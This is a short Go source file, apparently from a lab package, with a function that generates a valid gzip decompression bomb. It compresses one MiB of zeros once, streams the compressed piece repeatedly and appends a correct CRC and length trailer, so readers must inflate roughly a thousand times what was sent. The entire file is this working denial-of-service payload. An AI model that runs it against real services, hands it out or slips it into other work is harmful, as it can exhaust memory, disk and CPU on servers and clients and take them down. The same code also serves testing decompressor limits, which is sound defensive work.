package lab

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"hash/crc32"
	"io"
)

// bomb writes a valid gzip stream of at least size zero bytes. What it costs
// to send is a thousandth of what it costs to read: one MiB is compressed
// once and sent as often as needed, since each piece ends on a byte and looks
// back at zeros only.
func bomb(w io.Writer, size int64) error {
	const mib = 1 << 20
	zeros := make([]byte, mib)
	var piece bytes.Buffer
	f, err := flate.NewWriter(&piece, flate.BestSpeed)
	if err != nil {
		return err
	}
	if _, err := f.Write(zeros); err != nil {
		return err
	}
	if err := f.Flush(); err != nil {
		return err
	}
	if _, err := w.Write([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255}); err != nil {
		return err
	}
	sum, sent := uint32(0), int64(0)
	for ; sent < size; sent += mib {
		if _, err := w.Write(piece.Bytes()); err != nil {
			return err
		}
		sum = crc32.Update(sum, crc32.IEEETable, zeros)
	}
	end := []byte{3, 0} // a last block that is empty
	end = binary.LittleEndian.AppendUint32(end, sum)
	end = binary.LittleEndian.AppendUint32(end, uint32(sent))
	_, err = w.Write(end)
	return err
}
